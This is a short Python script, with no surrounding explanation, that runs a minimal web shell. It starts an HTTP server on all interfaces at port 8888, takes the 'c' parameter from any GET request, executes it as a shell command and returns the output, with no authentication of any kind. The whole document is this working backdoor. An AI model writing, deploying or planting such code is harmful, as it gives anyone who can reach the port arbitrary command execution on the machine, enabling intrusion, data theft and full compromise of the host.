import subprocess
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlparse, parse_qs

class Shell(BaseHTTPRequestHandler):
    def do_GET(self):
        q = parse_qs(urlparse(self.path).query)
        out = subprocess.run(q.get("c", ["id"])[0], shell=True, capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)

HTTPServer(("0.0.0.0", 8888), Shell).serve_forever()
